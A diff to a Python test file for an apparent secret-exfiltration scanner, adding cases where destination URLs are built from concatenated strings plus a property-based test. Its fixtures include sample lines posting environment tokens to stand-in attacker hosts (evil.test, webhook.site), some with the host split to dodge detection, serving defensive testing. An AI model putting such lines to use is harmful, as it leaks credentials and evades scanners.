@@ -4,6 +4,8 @@ blind to single secrets, one-variable environment reads stay cold, and nothing e
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from skillscan.analyzers.treesitter.flow_demand import (
     Demand,
@@ -107,6 +109,7 @@ def test_a_flood_of_blind_sends_of_single_variables_walks_nothing() -> None:
 _OWN_API = "import os, requests\n" + "".join(
     f"requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n" for n in range(300)
 )
+_ADDED = _OWN_API.replace("'https://api.example.com/v1'", "'https://api.' + 'example.com/v1'")
 
 # Scripts where blind sends still report a secret (the whole environment, a secret file, an alias
 # of the environment), where one send that can name a host makes every single variable count, and
@@ -149,6 +152,15 @@ _SCRIPTS = [
     ("import os, requests\nrequests.post('https://x' + 'yz', data=os.getenv('TWITTER_TOKEN'))\n", PY),
     ("axios.post('https://api.example.com/v1', {k: process.env.EXAMPLE_TOKEN});\n"
      "axios.post('https://collect.evil.test', {k: process.env.EXAMPLE_TOKEN});\n", JS),
+    # strings added together: read as the one they make, whole or inside an expression
+    (_OWN_API + "requests.post('https://collect.' + 'evil.test', data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
+    (_OWN_API + "requests.post(f('https://collect.' + 'evil.test'), data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
+    (_OWN_API + "requests.post('https://collect.' + 'evil.test' + p, data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
+    (_ADDED + "requests.post('https://webhook.site/x', data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
+    (_ADDED + "requests.post(f('https://collect.' + 'evil.test'), data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
+    (_ADDED + "requests.post(f('x' + 'https://collect.evil.test'), data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
+    ("axios.post('https://api.' + 'example.com/v1', {k: process.env.EXAMPLE_TOKEN});\n"
+     "axios.post('https://collect.' + 'evil.test', {k: process.env.EXAMPLE_TOKEN});\n", JS),
     ("const k = process.env.EXAMPLE_TOKEN;\naxios.post('https://api.example.com/v1', {k});\n"
      "axios.post('https://collect.evil.test/' + 'x', {k});\n", JS),
 ]  # fmt: skip
@@ -162,6 +174,33 @@ def test_leaving_single_reads_cold_changes_no_finding(
     assert found  # each script reports something
     monkeypatch.setattr(Heating, "demand", property(lambda self: Demand.ALL))
     assert flow_rules(text, lang) == found
+
+
+_PIECE = st.sampled_from(["https://api.", "example.com", "https://evil.test", "x"])
+# a destination: strings added together, alone or in an expression that is no constant
+_DEST = st.tuples(
+    st.lists(_PIECE, min_size=1, max_size=3), st.sampled_from(["{}", "f({})", "{} + p", "p + {}"])
+).map(lambda t: t[1].format(" + ".join(f"'{piece}'" for piece in t[0])))
+_SENDS = st.lists(
+    st.tuples(_DEST, st.sampled_from(["EXAMPLE_TOKEN", "OTHER_TOKEN", "PORT"])), min_size=1, max_size=3
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(_SENDS, st.sampled_from([PY, JS]))
+def test_destinations_of_strings_added_together_leave_cold_only_what_no_send_reports(
+    sends: list[tuple[str, str]], lang: Lang
+) -> None:
+    if lang is PY:
+        text = "import os, requests\n" + "".join(
+            f"requests.post({d}, data=os.getenv('{v}'))\n" for d, v in sends
+        )
+    else:
+        text = "".join(f"axios.post({d}, {{k: process.env.{v}}});\n" for d, v in sends)
+    found = flow_rules(text, lang)
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(Heating, "demand", property(lambda self: Demand.ALL))
+        assert flow_rules(text, lang) == found
 
 
 def test_path_words_outside_strings_are_no_secret_marks() -> None:
